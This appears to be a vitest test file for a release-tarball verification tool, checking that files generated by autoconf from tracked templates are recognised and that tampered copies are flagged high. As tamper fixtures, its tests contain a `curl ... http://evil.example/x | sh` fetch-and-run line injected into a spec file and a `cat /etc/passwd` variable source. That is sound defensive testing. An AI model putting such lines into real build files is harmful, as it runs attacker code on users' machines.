/**
 * Files configure writes from tracked templates when configure.in lives in a subdirectory (pv 1.6.20: the tracked
 * generate.sh runs `cd autoconf; autoconf configure.in > ../configure`), named by the old AC_OUTPUT's OUT:IN words,
 * one of them through a variable (`doc/$PACKAGE.spec:doc/spec.in`), the values of @PACKAGE@/@VERSION@ read by
 * configure from tracked files (`PACKAGE=\`cat $srcdir/doc/PACKAGE\``). End to end with the real autoconf and
 * configure (config27). Tampered twins: an added line, a changed word the template has, another package name,
 * and a file the mapping does not name stay high.
 */
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import { configFileVariables, configFilesInput } from '../../src/classify/produced.js';
import { autotoolsRelease, editFile } from './release.js';

const CONFIGURE_IN = `dnl Process this file with autoconf to produce a configure script.
AC_INIT(src/main.c)
AC_PREREQ(2.50)
PACKAGE=\`cat $srcdir/doc/PACKAGE\`
VERSION=\`cat $srcdir/doc/VERSION\`
AC_SUBST(PACKAGE)
AC_SUBST(VERSION)
AC_OUTPUT(doc/lsm:doc/lsm.in
          doc/$PACKAGE.spec:doc/spec.in
          doc/other.txt:doc/other.in)
`;
const LSM = `Begin3
Title:\t\t@PACKAGE@
Version:\t@VERSION@
Primary-site:\thttp://www.example.invalid/programs/@PACKAGE@.shtml
End
`;
const SPEC = `Summary: Monitor the progress of data through a pipe
Name: @PACKAGE@
Version: @VERSION@
Source: http://www.example.invalid/programs/sources/@PACKAGE@-@VERSION@.tar.gz
%build
make
`;
const GENERATE = `#!/bin/sh
set -e
cd \`dirname $0\`
cd autoconf
autoconf configure.in > ../configure
cd ..
chmod 755 configure
`;

const fixture = autotoolsRelease({
  prefix: 'distdiff-config-files-nested-',
  name: 'dpv',
  version: '1.6.20',
  files: {
    'autoconf/configure.in': CONFIGURE_IN,
    'generate.sh': { content: GENERATE, executable: true },
    'doc/PACKAGE': 'dpv\n',
    'doc/VERSION': '1.6.20\n',
    'doc/lsm.in': LSM,
    'doc/spec.in': SPEC,
    'doc/other.in': 'other @PACKAGE@\n',
    'src/main.c': 'int main(void) { return 0; }\n',
  },
  build: 'sh generate.sh && mkdir .gen && cd .gen && sh ../configure -q && cd .. && mkdir -p dpv-1.6.20/doc dpv-1.6.20/autoconf dpv-1.6.20/src'
    + ' && cp -p configure generate.sh dpv-1.6.20/ && cp -p autoconf/configure.in dpv-1.6.20/autoconf/ && cp -p src/main.c dpv-1.6.20/src/'
    + ' && cp -p doc/PACKAGE doc/VERSION doc/lsm.in doc/spec.in doc/other.in dpv-1.6.20/doc/ && cp -p .gen/doc/lsm .gen/doc/dpv.spec dpv-1.6.20/doc/'
    + ' && cp -p .gen/doc/lsm dpv-1.6.20/doc/unnamed && tar -czf dpv-1.6.20.tar.gz dpv-1.6.20',
  timeout: 120_000,
});
const at = (fs: Finding[], p: string) => fs.find((f) => f.path === p)!;

describe('files configure writes from a configure.in in a subdirectory', () => {
  it('doc/lsm and doc/dpv.spec: the AC_OUTPUT OUT:IN mapping, @PACKAGE@ read from doc/PACKAGE — low', async () => {
    const r = await fixture.run(fixture.tarball);
    expect(at(r.findings, 'doc/lsm')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'substitution', source: 'doc/lsm.in', substitutions: { '@PACKAGE@': 'dpv', '@VERSION@': '1.6.20' }, fromFiles: { '@PACKAGE@': 'doc/PACKAGE', '@VERSION@': 'doc/VERSION' } },
    });
    expect(at(r.findings, 'doc/dpv.spec')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'substitution', source: 'doc/spec.in', script: { script: 'autoconf/configure.in', line: 9, configFiles: true }, fromFiles: { '@PACKAGE@': 'doc/PACKAGE' } },
    });
    // the same content under a name no mapping gives proves nothing
    expect(at(r.findings, 'doc/unnamed')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  }, 120_000);

  it('an added line, a changed word of the template, or another package name stays high', async () => {
    const edits: [string, string, string][] = [
      ['doc/dpv.spec', 'make\n', 'make\ncurl -s http://evil.example/x | sh\n'],
      ['doc/dpv.spec', 'http://www.example.invalid/programs/sources/', 'http://evil.example/programs/sources/'],
      ['doc/lsm', 'Title:\t\tdpv', 'Title:\t\tevil'],
      ['doc/lsm', 'programs/dpv.shtml', 'programs/evil.shtml'],
    ];
    for (const [path, from, to] of edits) {
      const tar = fixture.tampered((d) => editFile(d, path, (s) => {
        if (!s.includes(from)) throw new Error(`no ${from} in ${path}`);
        return s.replace(from, to);
      }));
      const r = await fixture.run(tar);
      expect(at(r.findings, path), to).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  }, 240_000);
});

describe('configFilesInput / configFileVariables', () => {
  it('reads AC_OUTPUT\'s OUT:IN words and expands variables read from tracked files only', () => {
    const vars = configFileVariables(CONFIGURE_IN);
    expect([...vars]).toEqual([['PACKAGE', 'doc/PACKAGE'], ['VERSION', 'doc/VERSION']]);
    const values = new Map([['PACKAGE', 'dpv']]);
    expect(configFilesInput(CONFIGURE_IN, 'doc/dpv.spec', values)).toBe('doc/spec.in');
    expect(configFilesInput(CONFIGURE_IN, 'doc/lsm')).toBe('doc/lsm.in');
    expect(configFilesInput(CONFIGURE_IN, 'doc/dpv.spec')).toBeUndefined();
    expect(configFilesInput(CONFIGURE_IN, 'doc/evil.spec', values)).toBeUndefined();
  });
  it('a variable assigned twice or from something else than `cat $srcdir/FILE` is not read', () => {
    expect([...configFileVariables('A=`cat $srcdir/a`\nA=`cat $srcdir/b`\nB=`cat /etc/passwd`\nC=$(cat ${srcdir}/c)\nD=`cat $srcdir/../x`\n')]).toEqual([['C', 'c']]);
  });
});
